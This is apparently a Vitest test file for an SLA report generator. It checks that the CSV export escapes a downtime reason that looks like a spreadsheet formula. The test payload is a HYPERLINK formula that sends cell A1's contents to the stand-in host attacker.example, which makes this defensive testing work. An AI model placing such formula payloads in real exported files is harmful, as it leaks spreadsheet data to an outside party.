import { describe, expect, it } from 'vitest';
import { buildReport, intervalResolver, monthRange, reportCsv, slaPolicySchema } from '../../sla/index.js';

const TZ = 'Europe/Amsterdam';
const [FROM, TO] = monthRange('2026-03', TZ);
const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"details")';

describe('CSV report', () => {
  it('writes a reason that looks like a formula as text, not as a formula', () => {
    const r = buildReport({
      serviceId: 'office-web',
      customer: 'acme',
      policy: slaPolicySchema.parse({ id: 'std', availability: '99.9%', latency: { average_ms: 50 } }),
      timezone: TZ,
      resolve: intervalResolver([], TZ),
      probeIntervalMs: 600_000,
      samples: [{ ts: FROM + 3_600_000, ok: true, totalMs: 10, location: 'ams' }],
      // Announced one hour ahead: under the 12 h notice, so it is listed with its raw reason.
      planned: [
        {
          id: 'pd-1',
          start: FROM + 86_400_000,
          end: FROM + 90_000_000,
          announcedAt: FROM + 82_800_000,
          reason: FORMULA,
        },
      ],
      incidents: [],
      period: '2026-03',
      fromMs: FROM,
      toMs: TO,
    });
    const cells = reportCsv(r)
      .split('\r\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((c) =>
        c
          .replace(/,$/, '')
          .replace(/^"(.*)"$/s, '$1')
          .replace(/""/g, '"'),
      );
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
  });
});
